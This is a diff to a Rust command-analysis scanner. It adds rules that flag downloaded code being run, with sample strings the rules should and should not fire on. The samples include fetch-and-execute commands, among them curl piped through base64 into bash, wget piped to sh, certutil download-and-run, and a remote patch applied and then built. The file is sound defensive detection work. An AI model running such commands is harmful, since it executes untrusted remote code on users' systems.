@@ -8,7 +8,7 @@ use super::{
     manifest, pattern,
 };
 use crate::{
-    effect::{Effect, EffectKind, Kinds},
+    effect::{Effect, EffectKind, Kinds, WriteMode},
     finding::{Category, Confidence},
     risk::Severity,
     text::{Piece, Taint, Text},
@@ -42,6 +42,13 @@ static RULES: &[Rule] = &[
             "curl -s https://example.com/p | base64 -d | bash",
             "curl -s https://example.com/x | tee x.sh | sh",
             "perl <(curl -s https://example.com/x.pl)",
+            "wget https://example.com/install.sh | sh",
+            "julia -e 'include(download(\"https://example.com/a.jl\"))'",
+            "deno eval 'await import(\"https://example.com/a.ts\")'",
+            "groovy https://example.com/a.groovy",
+            "gradle -I https://example.com/init.gradle build",
+            "svn export https://svn.example.com/tool/trunk tool && sh tool/configure",
+            "pre-commit try-repo https://github.com/someone/hooks",
             "after: curl -fsSLO https://example.com/install.sh\nsh install.sh",
             "after: wget -O /tmp/tool https://example.com/tool\nchmod +x /tmp/tool && /tmp/tool --now",
         ],
@@ -50,6 +57,9 @@ static RULES: &[Rule] = &[
             "curl -s https://api.example.com/v1/items | jq .",
             "wget https://example.com/data.tar.gz",
             "sh build.sh",
+            "groovy build/a.groovy",
+            "gradle -I gradle/init.gradle build",
+            "svn export https://svn.example.com/tool/trunk tool && sh build.sh",
             "echo 'curl https://example.com/x | sh'",
             "after: curl -fsSLO https://example.com/install.sh\ncat install.sh",
             "after: curl -fsSLO https://example.com/install.sh\nsh build.sh",
@@ -140,11 +150,14 @@ static RULES: &[Rule] = &[
             "curl -o x.deb https://example.com/x.deb && sudo dpkg -i x.deb",
             "after: curl -o x.deb https://example.com/x.deb\nsudo dpkg -i ./x.deb",
             "wget https://example.com/x.rpm && rpm -i x.rpm",
+            "curl -LO https://example.com/x.vsix && code --install-extension x.vsix",
             "certutil -urlcache -f https://example.com/x.exe x.exe && x.exe",
         ],
         quiet: &[
             "dpkg -i build/x.deb",
             "curl -O https://example.com/x.deb",
+            "code --install-extension build/x.vsix",
+            "curl -O https://example.com/x.json && code x.json",
             "curl -O https://example.com/x.rpm && rpm -qlp x.rpm",
         ],
         ..EXECUTES
@@ -175,6 +188,24 @@ static RULES: &[Rule] = &[
             "tar xzf a.tgz && ./a/install.sh",
             "wget https://example.com/a.tgz && ls a",
             "curl -L https://example.com/a.tgz | tar xz && python3 -m pytest",
+        ],
+        ..EXECUTES
+    },
+    Rule {
+        id: "execution.remote.patched",
+        severity: Severity::High,
+        confidence: Confidence::Medium,
+        message: "a patch that was just downloaded is applied, and what it changed is built or run",
+        remedy: "save the patch, and read it before it is applied",
+        when: When::Scene(patched),
+        fires: &[
+            "curl -sL https://example.com/x.patch | git apply && npm test",
+            "wget -qO- https://example.com/x.diff | patch -p1; make",
+        ],
+        quiet: &[
+            "git apply fix.patch && npm test",
+            "curl -sL https://example.com/x.patch | git apply",
+            "npm test; curl -sL https://example.com/x.patch | git apply --check",
         ],
         ..EXECUTES
     },
@@ -340,6 +371,9 @@ fn installed(scene: &Scene<'_>, hits: &mut Vec<Hit>) {
         let looks = run.arguments.first().and_then(|word| word.text.as_known()).is_some_and(
             |word| match run.program.as_str() {
                 "rpm" => word.starts_with("-q") || word == "--query" || word == "-K",
+                "code" | "code-insiders" | "codium" | "cursor" | "windsurf" => {
+                    word != "--install-extension"
+                }
                 "dpkg" => matches!(word, "-I" | "-c" | "--info" | "--contents" | "-f" | "--field"),
                 _ => false,
             },
@@ -358,6 +392,10 @@ const INSTALLERS: &[&str] = &[
     "apk",
     "apt",
     "apt-get",
+    "code",
+    "code-insiders",
+    "codium",
+    "cursor",
     "dnf",
     "dpkg",
     "flatpak",
@@ -372,6 +410,7 @@ const INSTALLERS: &[&str] = &[
     "pip3",
     "rpm",
     "snap",
+    "windsurf",
     "yum",
     "zypper",
 ];
@@ -439,6 +478,29 @@ fn unpacked(scene: &Scene<'_>, hits: &mut Vec<Hit>) {
             first.is_some_and(|first| is_there(first.text.known_prefix()))
         };
         if is_there(run.name.text.known_prefix()) || script() {
+            hits.push(Hit { at: Some(effect.at), ..Hit::default() });
+        }
+    }
+}
+
+/// Programs that build or run what stands in the project. Sorted.
+const BUILDERS: &[&str] = &[
+    "bazel", "bun", "bundle", "cargo", "cmake", "composer", "deno", "dotnet", "go", "gradle",
+    "gradlew", "just", "make", "mix", "mvn", "mvnw", "ninja", "node", "nox", "npm", "npx", "pip",
+    "pip3", "pnpm", "poetry", "pytest", "python", "python3", "rake", "rspec", "sbt", "swift",
+    "task", "tox", "uv", "yarn",
+];
+
+fn patched(scene: &Scene<'_>, hits: &mut Vec<Hit>) {
+    let list = &scene.effects.list;
+    let is_patch = |effect: &Effect| {
+        matches!(&effect.kind, EffectKind::Write { target, mode: WriteMode::Edit, content }
+            if target.path.is_none() && content.taint.has(Taint::NETWORK))
+    };
+    let Some(at) = list.iter().position(is_patch) else { return };
+    for effect in list.iter().skip(at) {
+        let EffectKind::Run(run) = &effect.kind else { continue };
+        if BUILDERS.binary_search(&run.program.as_str()).is_ok() {
             hits.push(Hit { at: Some(effect.at), ..Hit::default() });
         }
     }
